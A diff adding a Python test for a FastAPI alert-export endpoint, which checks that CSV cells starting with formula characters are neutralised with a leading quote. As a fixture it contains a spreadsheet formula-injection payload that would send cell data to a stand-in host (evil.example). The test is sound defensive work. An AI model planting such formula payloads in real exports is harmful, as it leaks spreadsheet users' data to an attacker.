@@ -100,3 +100,27 @@ def test_an_empty_export_is_a_valid_file(app: FastAPI, org_a: SeededOrg) -> None
     assert table.num_rows == 0 and "alert_timestamp" in table.schema.names
     text = client.get("/api/export/alerts", params={"compressor": "NO-SUCH-1"}).text
     assert text.splitlines()[0].startswith("id,compressor_id") and len(text.splitlines()) == 1
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(
+    app: FastAPI, org_a: SeededOrg
+) -> None:
+    note = '=HYPERLINK("http://evil.example/?d="&A2,"open")'
+    operator = member_client(app, org_a.users[Role.OPERATOR])
+    resolved = operator.post(f"/api/alerts/{org_a.alert_ids['critical']}/resolve", json={"note": note})
+    assert resolved.status_code == 200, resolved.text
+    response = key_client(app, org_a.api_keys[Role.VIEWER]).get("/api/export/alerts")
+    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(response.text))}
+    row = rows[str(org_a.alert_ids["critical"])]
+    assert row["resolution_note"] == "'" + note  # OWASP: a leading quote makes it text
+    assert float(row["sensor_value"]) == 9.0  # numbers are left as numbers
+    assert [export.csv_safe(v) for v in ("+1", "-x", "@SUM(A1)", "\tcmd", "\rcmd", "ok", "")] == [
+        "'+1",
+        "'-x",
+        "'@SUM(A1)",
+        "'\tcmd",
+        "'\rcmd",
+        "ok",
+        "",
+    ]
+    assert export.csv_safe(-3.5) == -3.5
